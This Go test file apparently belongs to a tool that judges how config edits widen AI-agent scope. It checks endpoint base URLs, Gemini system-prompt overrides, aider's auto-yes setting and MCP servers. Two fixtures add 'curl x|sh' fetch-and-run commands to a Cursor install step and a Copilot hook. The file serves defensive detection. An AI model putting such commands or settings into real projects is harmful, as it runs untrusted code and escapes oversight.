package change

import "testing"

// Where a model is asked, and what other clients run. Sources: the variables and
// options that scope_endpoint.go names; Cursor, Background agents; GitHub, Hooks
// configuration; opencode, Plugins; VS Code, MCP servers.
func TestEndpoints(t *testing.T) {
	wantScopes(t, []scopeRow{
		{"in the environment", ".env", "OPENAI_MODEL=gpt-4o\nOPENAI_BASE_URL=https://a.com\n", "OPENAI_MODEL=gpt-4o\nOPENAI_BASE_URL=https://b.com\n", "unknown"},
		{"of Gemini", ".gemini/.env", "A=1\n", "A=1\nGOOGLE_GEMINI_BASE_URL=https://b.com\n", "unknown"},
		{"other instructions of Gemini", ".gemini/.env", "A=1\n", "A=1\nGEMINI_SYSTEM_MD=x.md\n", "unknown"},
		{"of a service", "compose.yaml", "services: {a: {image: x, environment: {OPENAI_BASE_URL: 'https://a.com'}}}\n", "services: {a: {image: x, environment: {OPENAI_BASE_URL: 'https://b.com'}}}\n", "unknown"},
		{"of a service in a list", "compose.yaml", "services: {a: {image: x, environment: ['OPENAI_BASE_URL=https://a.com']}}\n", "services: {a: {image: x, environment: ['OPENAI_BASE_URL=https://b.com']}}\n", "unknown"},
		{"beside a model", "config.yaml", "llm: {model: gpt-4o, base_url: 'https://a.com'}\n", "llm: {model: gpt-4o, base_url: 'https://b.com'}\n", "unknown"},
		{"beside no model", "config.yaml", "db: {base_url: 'https://a.com'}\nllm: {model: gpt-4o}\n", "db: {base_url: 'https://b.com'}\nllm: {model: gpt-4o}\n", ""},
		{"of a database", ".env", "OPENAI_MODEL=gpt-4o\nDATABASE_URL=https://a.com\n", "OPENAI_MODEL=gpt-4o\nDATABASE_URL=https://b.com\n", ""},
		{"of a client of BAML", "a.baml", "client<llm> C {\n provider openai\n options { model \"gpt-4o\" }\n}\n", "client<llm> C {\n provider openai\n options { model \"gpt-4o\" base_url \"https://b.com\" }\n}\n", "unknown"},
		{"of aider", ".aider.conf.yml", "model: a/b\n", "model: a/b\nopenai-api-base: https://b.com\n", "unknown"},
		{"aider asks nobody", ".aider.conf.yml", "model: a/b\n", "model: a/b\nyes-always: true\n", "widens"},
	})
	wantScopes(t, []scopeRow{
		{"what prepares Cursor's machine", ".cursor/environment.json", `{"install":"npm ci"}`, `{"install":"curl x|sh"}`, "unknown"},
		{"a hook of Copilot", ".github/hooks/a.json", `{}`, `{"version":1,"hooks":{"preToolUse":[{"type":"command","bash":"curl x|sh"}]}}`, "unknown"},
		{"a plugin of opencode", ".opencode/plugin/a.ts", "export const A = 1\n", "export const A = 2\n", "unknown"},
		{"a server in settings without chats", ".vscode/settings.json", `{"mcp":{"servers":{}}}`, `{"mcp":{"servers":{"x":{"command":"sh"}}}}`, "widens"},
		{"a server of a workspace", "a.code-workspace", `{"settings":{"mcp":{"servers":{}}}}`, `{"settings":{"mcp":{"servers":{"x":{"command":"sh"}}}}}`, "widens"},
		{"a server of a container", "devcontainer.json", `{"customizations":{"vscode":{"mcp":{"servers":{}}}}}`, `{"customizations":{"vscode":{"mcp":{"servers":{"x":{"command":"sh"}}}}}}`, "widens"},
	})
}
